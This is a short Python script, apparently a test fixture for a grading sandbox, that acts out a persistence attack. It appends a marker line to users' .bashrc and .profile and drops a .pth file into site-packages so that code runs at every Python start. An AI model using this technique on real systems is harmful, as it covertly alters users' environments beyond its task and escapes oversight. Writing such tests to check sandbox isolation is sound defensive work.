"""Attack: persist outside grading: append to ~/.bashrc and drop a .pth into site-packages."""

import os
import pwd
import site
import sys

homes = {os.path.expanduser("~")}
try:
    homes.add(pwd.getpwuid(os.getuid()).pw_dir)
except KeyError:
    pass
for home in homes:
    for name in (".bashrc", ".profile"):
        try:
            with open(os.path.join(home, name), "a") as f:
                f.write("\necho nngrade-attack: owned >&2\n")
        except OSError:
            pass

folders = set(site.getsitepackages() if hasattr(site, "getsitepackages") else [])
folders.update(p for p in sys.path if p.endswith("site-packages"))
for folder in folders:
    try:
        with open(os.path.join(folder, "zzz-nngrade-attack.pth"), "w") as f:
            f.write("import os; os.environ['NNGRADE_ATTACK'] = 'pth'\n")
    except OSError:
        pass
